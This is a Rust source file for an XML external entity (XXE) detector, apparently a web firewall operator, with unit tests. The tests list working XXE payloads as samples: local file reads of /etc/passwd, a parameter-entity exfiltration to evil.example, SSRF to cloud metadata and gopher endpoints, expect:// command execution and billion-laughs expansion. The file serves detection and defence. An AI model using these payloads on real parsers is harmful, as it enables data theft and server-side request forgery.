//! `@detectXxe`: XML that makes its reader fetch or expand something.
//!
//! Recognises entity declarations (internal, external, parameter), a document type with an internal subset or with an
//! external one that is not a published type of documents, and XInclude.
//!
//! Leaves `<!DOCTYPE html>`, the published types of XHTML, SVG and property lists, CDATA, comments, processing
//! instructions and references such as `&amp;` alone.

use super::evidence::Best;
use super::scan::{Cursor, find_text, has_text};
use super::{Classes, Finding};

/// How many bytes after the start of a declaration are looked at.
const REACH: usize = 512;

/// Where published document types live. Such a URL is not fetched by any reader worth its name.
const PUBLISHED: &[&[u8]] = &[
    b"http://www.w3.org/",
    b"https://www.w3.org/",
    b"http://www.apple.com/dtds/",
    b"https://www.apple.com/dtds/",
    b"http://java.sun.com/",
    b"http://xml.apache.org/",
    b"http://www.oasis-open.org/",
    b"http://hibernate.sourceforge.net/",
    b"http://www.hibernate.org/",
    b"http://mybatis.org/",
    b"https://mybatis.org/",
    b"http://www.springframework.org/",
    b"about:legacy-compat",
    b"http://checkstyle.sourceforge.net/",
    b"https://checkstyle.org/",
    b"http://struts.apache.org/",
    b"http://logging.apache.org/",
    b"http://www.topografix.com/",
];

/// A `<` with the `!` of a declaration or the colon behind XInclude's prefix.
pub(super) fn may_find(_: &[u8], classes: Classes) -> bool {
    classes.any(Classes::LESS) && classes.any(Classes::BANG.or(Classes::COLON))
}

pub(super) fn find(value: &[u8], _: Classes) -> Option<Finding> {
    let mut best = Best::default();
    let mut at = 0;
    while let Some(offset) = value.get(at..).and_then(|rest| memchr::memchr(b'<', rest)) {
        at += offset;
        if best.keep(declaration(value, at).or_else(|| inclusion(value, at))) {
            break;
        }
        at += 1;
    }
    best.into_finding()
}

/// `<!ENTITY …` or `<!DOCTYPE …`.
fn declaration(value: &[u8], at: usize) -> Option<Finding> {
    let mut cursor = Cursor::from(value, at);
    if !(cursor.eat(b'<') && cursor.eat(b'!')) {
        return None;
    }
    if cursor.eat_text(b"entity") {
        return entity(cursor, at);
    }
    if !cursor.eat_text(b"doctype") || !cursor.skip_space() {
        return None;
    }
    cursor.take_at_most(REACH, |byte| !matches!(byte, b' ' | b'\t' | b'\r' | b'\n' | b'[' | b'>' | b'<'));
    cursor.skip_space();
    let external = external_identifier(&mut cursor);
    cursor.skip_space();
    let end = cursor.at();
    if cursor.eat(b'[') {
        return Some(Finding::certain("document type with declarations of its own", at..end + 1));
    }
    match external? {
        External::Published => None,
        External::Url => Some(Finding::certain("document type fetched from elsewhere", at..end)),
        External::Other => Some(Finding::likely("document type in another file", at..end)),
    }
}

/// What an external identifier points at.
enum External {
    Published,
    Url,
    Other,
}

/// `SYSTEM "…"` or `PUBLIC "…" "…"`.
fn external_identifier(cursor: &mut Cursor<'_>) -> Option<External> {
    let has_public_name = if cursor.eat_word(b"system") {
        false
    } else if cursor.eat_word(b"public") {
        true
    } else {
        return None;
    };
    cursor.skip_space();
    let mut location = quoted(cursor)?;
    if has_public_name {
        cursor.skip_space();
        // HTML allows a public name alone.
        location = quoted(cursor).unwrap_or(b"about:legacy-compat");
    }
    Some(if PUBLISHED.iter().any(|known| super::starts_with(location, known)) {
        External::Published
    } else if location.contains(&b':') || location.starts_with(b"/") || location.starts_with(b"\\") {
        External::Url
    } else {
        External::Other
    })
}

/// A literal in quotes of either kind.
fn quoted<'a>(cursor: &mut Cursor<'a>) -> Option<&'a [u8]> {
    let quote = cursor.peek().filter(|byte| matches!(byte, b'"' | b'\''))?;
    cursor.skip(1);
    let text = cursor.take_at_most(REACH, |byte| byte != quote);
    cursor.eat(quote);
    Some(text)
}

/// After `<!ENTITY`: a name, then a literal or an external identifier.
fn entity(mut cursor: Cursor<'_>, at: usize) -> Option<Finding> {
    if !cursor.skip_space() {
        return None;
    }
    let is_parameter = cursor.eat(b'%') || cursor.eat_text(b"&#x25;") || cursor.eat_text(b"&#37;");
    cursor.skip_space();
    let name =
        cursor.take_at_most(REACH, |byte| !matches!(byte, b' ' | b'\t' | b'\r' | b'\n' | b'<' | b'>' | b'"' | b'\''));
    if name.is_empty() || !cursor.skip_space() {
        return None;
    }
    let end = cursor.at();
    if cursor.eat_word(b"system") || cursor.eat_word(b"public") {
        return Some(Finding::certain("external entity", at..cursor.at()));
    }
    if !matches!(cursor.peek(), Some(b'"' | b'\'' | b'&')) {
        return None;
    }
    Some(Finding::certain(if is_parameter { "parameter entity" } else { "declared entity" }, at..end))
}

/// `<xi:include href=…>` with any prefix, as long as the prefix is bound to XInclude or is the customary one.
fn inclusion(value: &[u8], at: usize) -> Option<Finding> {
    let mut cursor = Cursor::from(value, at + 1);
    let prefix = cursor.take_at_most(32, super::scan::is_word);
    if prefix.is_empty() || !cursor.eat(b':') || !cursor.eat_word(b"include") {
        return None;
    }
    let attributes = cursor.take_at_most(REACH, |byte| byte != b'>');
    let end = cursor.at();
    if !has_text(attributes, b"href") && !has_text(attributes, b"parse") {
        return None;
    }
    // The namespace is bound in this element or before it; only the beginning is searched, so that work stays linear.
    let bound = find_text(value.get(..value.len().min(4 * REACH)).unwrap_or_default(), b"/xinclude", 0).is_some()
        || has_text(attributes, b"/xinclude");
    if bound || prefix.eq_ignore_ascii_case(b"xi") {
        return Some(Finding::certain("XInclude", at..end));
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::detect::check::{finds, is_certain_of, is_linear_in, is_quiet_about};
    use crate::seclang::ast::OperatorKind::DetectXxe;

    #[test]
    fn finds_entities_and_inclusions() {
        is_certain_of(
            DetectXxe,
            &[
                "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
                "<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM \"http://evil.example/x\">]>",
                "<!DOCTYPE r [<!ENTITY % dtd SYSTEM \"http://evil.example/e.dtd\"> %dtd;]>",
                "<!doctype foo[<!entity x 'y'>]>",
                "<!DOCTYPE\nfoo\n[<!ENTITY\nxxe\nSYSTEM\n\"file:///c:/boot.ini\">]>",
                "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\">",
                "<!DOCTYPE foo SYSTEM 'file:///etc/passwd'>",
                "<!DOCTYPE foo PUBLIC \"any\" \"http://evil.example/x.dtd\"><foo/>",
                "<!DOCTYPE foo SYSTEM \"\\\\evil.example\\share\\x.dtd\">",
                "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
                "<!ENTITY xxe SYSTEM \"expect://id\">",
                "<!ENTITY xxe PUBLIC \"bar\" \"file:///etc/passwd\">",
                "<!ENTITY % file SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">",
                "<!ENTITY &#x25; eval \"<!ENTITY exfil SYSTEM 'http://evil.example/?%file;'>\">",
                "<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'file:///x'>\">",
                "<!ENTITY js SYSTEM 'jar:http://evil.example/a.zip!/b.txt'>",
                "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>",
                "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
                "<foo xmlns:abc=\"http://www.w3.org/2001/XInclude\"><abc:include href=\"http://evil.example/\"/></foo>",
                "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg>&x;</svg>",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE replace [<!ENTITY example \"Doe\"> ]>\n<userInfo><lastName>&example;</lastName></userInfo>",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\" [<!ENTITY a SYSTEM 'b'>]>",
                "<!DOCTYPE a [\n<!ATTLIST b c CDATA #IMPLIED>]>",
                "data=<!DOCTYPE foo [ <!ENTITY x SYSTEM 'gopher://127.0.0.1:25/'> ]>",
                "<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM \"http://evil.example/\"> %dtd;]><xxx/>]]></foo></soap:Body>",
                "<!ENTITY xxe SYSTEM \"netdoc:///etc/passwd\">",
                "<!ENTITY\txxe\tSYSTEM\t\"x\">",
                "<!DOCTYPE x [ <!NOTATION n SYSTEM \"calc.exe\"> ]>",
                "<!DOCTYPE convert [ <!ENTITY % remote SYSTEM \"http://169.254.169.254/latest/\">%remote;%int;%trick;]>",
                "<!DOCTYPE message SYSTEM \"ftp://evil.example/x.dtd\">",
            ],
        );
        finds(DetectXxe, &["<!DOCTYPE note SYSTEM \"Note.dtd\">"]);
    }

    #[test]
    fn leaves_ordinary_markup_alone() {
        is_quiet_about(
            DetectXxe,
            &[
                "<!DOCTYPE html>",
                "<!doctype html><html></html>",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
                "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
                "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
                "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
                "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Tove</to></note>",
                "<![CDATA[some text]]>",
                "<!-- comment -->",
                "&amp; &lt; &gt;",
                "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
                "<xs:include schemaLocation=\"types.xsd\"/>",
                "<!ENTITY",
                "the ENTITY declaration",
                "what is a <!ENTITY> declaration?",
                "<!DOCTYPE",
                "<!",
                "<x:included/>",
                "<jsp:include page=\"a.jsp\"/>",
            ],
        );
    }

    #[test]
    fn takes_linear_time() {
        is_linear_in(
            DetectXxe,
            &[
                "<!DOCTYPE ",
                "<!ENTITY ",
                "<!DOCTYPE a SYSTEM \"",
                "<!ENTITY % a",
                "<a:include ",
                "<",
                "<!DOCTYPE a PUBLIC \"a\" ",
            ],
        );
    }
}
